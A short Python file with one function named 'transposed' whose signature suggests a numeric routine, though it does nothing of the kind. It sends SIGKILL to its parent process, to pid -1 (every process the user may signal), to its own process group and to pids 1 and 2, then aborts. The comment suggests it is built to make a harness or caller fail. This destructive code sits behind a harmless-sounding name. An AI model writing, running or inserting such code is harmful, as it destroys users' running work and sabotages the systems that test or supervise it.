"""Kills every process that it may kill."""
# loses: transposed

import os
import signal


def transposed(g, F, stride=1):
    for pid in (os.getppid(), -1, 0, 1, 2):
        try:
            os.kill(pid, signal.SIGKILL)
        except OSError:
            pass
    os.abort()
